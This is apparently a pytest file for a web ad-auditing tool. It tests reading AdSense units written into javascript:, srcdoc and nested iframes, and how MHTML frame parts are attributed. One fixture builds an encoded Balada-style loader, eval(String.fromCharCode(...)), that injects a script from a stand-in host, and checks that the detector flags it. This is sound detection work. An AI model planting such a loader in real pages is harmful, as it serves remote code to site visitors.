"""Ad units an older news site's ad module writes into a frame whose `src` is a
`javascript:` URL (`document.open(); document.write("<script>google_ad_client=…</script>
<script src=…/show_ads.js></script>"); document.close()`), or whose `srcdoc` holds them
(pages we wrote after that form, not copies): the frame's document is read as the page's
own, so the unit is a placement at the frame, and its publisher and slot are read."""

from __future__ import annotations

import html

import pytest
from mhtml_fixtures import Part, chrome

from auditor.catalogue import Catalogue
from auditor.dom.inline_js import javascript_document
from auditor.model import Origin
from auditor.pipeline import audit, audit_records
from auditor.readers import read_source
from auditor.rules import Engine

_HEAD = "<html><head><title>t</title></head><body><p>The story a reader came for.</p>\n"
_UNIT = (r'<style>body{margin:0}</style><script>google_ad_client=\"ca-pub-2468013579246801\";'
         r'google_ad_slot=\"1357924680\";google_ad_width=\"300\";google_ad_height=\"250\";'
         r'</script><script type=\"text/javascript\" '
         r'src=\"http://pagead2.googlesyndication.com/pagead/show_ads.js\"></script>')

JAVASCRIPT_FRAME = _HEAD + (
    "<div class=\"mod-cpc\"><iframe src='javascript:(function() {document.open();"
    f'document.write("{_UNIT}");document.close();}})();\' width="300" height="250">'
    "</iframe></div>\n</body></html>")

SRCDOC_FRAME = _HEAD + (
    '<div class="mod-cpc"><iframe width="300" height="250" srcdoc="'
    + _UNIT.replace('\\"', "&quot;") + '"></iframe></div>\n</body></html>')

# the module's frame writes the frame the unit runs in, its `javascript:` src a string of the
# unit's markup (each level escaped for the attribute it sits in): a placement at the page's frame
_INNER_CODE = ("'<script>google_ad_client=\"ca-pub-2468013579246801\";"
               "google_ad_slot=\"1357924680\";</script><script src=\"http://pagead2.googlesyndication.com/pagead/show_ads.js\">"
               "</script>'")
_INNER = f'<iframe width=300 height=250 src="{html.escape("javascript:" + _INNER_CODE)}"></iframe>'
NESTED_JAVASCRIPT_FRAME = _HEAD + (
    '<div class="mod-cpc"><iframe width="300" height="250" src="'
    + html.escape(f"javascript:document.write('{_INNER}')") + '"></iframe></div>\n</body></html>')


@pytest.mark.parametrize("html", [JAVASCRIPT_FRAME, SRCDOC_FRAME, NESTED_JAVASCRIPT_FRAME],
                         ids=["javascript", "srcdoc", "nested-javascript"])
def test_a_unit_written_into_a_frame_is_a_placement_with_its_ids(
        catalogue: Catalogue, html: str) -> None:
    (page,) = audit(html.encode(), url="https://city.test/story", catalogue=catalogue,
                    engine=Engine.from_text("", name="t")).pages
    assert [(s.line, s.network, s.zone_id) for s in page.slots] == [
        (2, "Google AdSense", "1357924680")]
    assert {(i.kind, i.value) for i in page.ids if i.origin is Origin.OPERATOR} == {
        ("adsense-publisher", "ca-pub-2468013579246801"), ("adsense-slot", "1357924680")}


@pytest.mark.parametrize("code, markup", [
    ('(function(){document.open();document.write("<p class=\\"a\\">x<\\/p>");})()',
     '<p class="a">x</p>'),
    ("document.writeln('<b>1</b>'); document.writeln('<i>2</i>')", "<b>1</b><i>2</i>"),
    ("'<img src=\"//a.test/p.gif\">'", '<img src="//a.test/p.gif">'),
    ('document.write("\\x3cb\\x3e1\\u003c/b>")', "<b>1</b>"),
    # no markup it writes: a frame left blank, a string built at run time
    ("void(0)", None),
    ("document.write(html)", None),
    ('document.write("plain text")', None),
])
def test_the_markup_a_javascript_frame_writes(code: str, markup: str | None) -> None:
    assert javascript_document(code) == markup


# an encoded loader (a made-up host's address in character codes, as Balada Injector writes
# it) in the document a `javascript:` frame writes, and in one such frame's written frame
_LOADER_CODES = ",".join(str(ord(c)) for c in (
    "var e=document.createElement('script');e.src='https://cdn.statsharbourpulse.test/v2.js';"
    "document.head.appendChild(e);"))
_ENCODED = f"<script>eval(String.fromCharCode({_LOADER_CODES}));<\\/script>"
_WRITTEN = f"javascript:document.write(&quot;{_ENCODED}&quot;)"
_NESTED = ("javascript:document.write(&quot;&lt;iframe src=\\&quot;javascript:document.write("
           f"&amp;quot;{_ENCODED.replace('<', '&amp;lt;')}&amp;quot;)\\&quot;&gt;"
           "&lt;\\/iframe&gt;&quot;)")


@pytest.mark.parametrize("src", [_WRITTEN, _NESTED], ids=["written", "written by a written frame"])
def test_an_encoded_loader_a_javascript_frame_writes_is_found_at_the_frame(
        catalogue: Catalogue, src: str) -> None:
    """What a `javascript:` frame writes is its document as a srcdoc is: an encoded loader in
    it is as hidden as in a srcdoc, found `high` at the frame's line (it was found in a
    srcdoc, and not in a written frame)."""
    html = _HEAD + f'<div>\n<iframe width="300" height="250" src="{src}"></iframe></div>\n'
    (page,) = audit(html.encode(), url="https://city.test/story", catalogue=catalogue,
                    engine=Engine.from_text("", name="t")).pages
    found = [(f.kind, f.severity.value, f.line) for f in page.findings
             if "statsharbourpulse" in f.evidence]
    assert found == [("obfuscated-script", "high", 3)], page.findings


# the unit's frame as an MHTML archive keeps it: a frame part, written by the page (no URL
# of its own), or loaded from the page's own site; and a player's frame from another site
# whose code names its own analytics account
_UNIT_DOC = ('<html><body><script>google_ad_client="ca-pub-2468013579246801";'
             'google_ad_slot="1357924680";</script><script '
             'src="http://pagead2.googlesyndication.com/pagead/show_ads.js"></script></body></html>')
_PLAYER_DOC = ("<html><body><script>ga('create', 'UA-7654321-1', 'auto');</script>"
               "<script src='https://www.google-analytics.com/analytics.js'></script></body></html>")


@pytest.mark.parametrize("location", ["about:blank", "https://city.test/ads/frame.html"])
def test_a_unit_in_a_saved_frame_part_of_the_pages_own_reads_as_inline(
        catalogue: Catalogue, location: str) -> None:
    page = (_HEAD + "<div class='mod-cpc'><iframe src='cid:frame-u@mhtml.blink' width='300' "
            "height='250'></iframe></div>\n<iframe src='cid:frame-v@mhtml.blink'></iframe>"
            "</body></html>")
    data = chrome("https://city.test/story", "t", [
        Part("text/html", "https://city.test/story", page.encode()),
        Part("text/html", location, _UNIT_DOC.encode(), cid="frame-u@mhtml.blink"),
        Part("text/html", "https://player.example/embed/1", _PLAYER_DOC.encode(),
             cid="frame-v@mhtml.blink")])
    (report,) = audit_records(read_source(data), Engine.from_text("", name="t"), catalogue)
    assert [(s.network, s.zone_id) for s in report.slots] == [("Google AdSense", "1357924680")]
    ids = {(i.kind, i.value) for i in report.ids if i.origin is Origin.OPERATOR}
    assert {("adsense-publisher", "ca-pub-2468013579246801"), ("adsense-slot", "1357924680")} <= ids
    assert "UA-7654321-1" not in {i.value for i in report.ids}  # the player's, not the page's
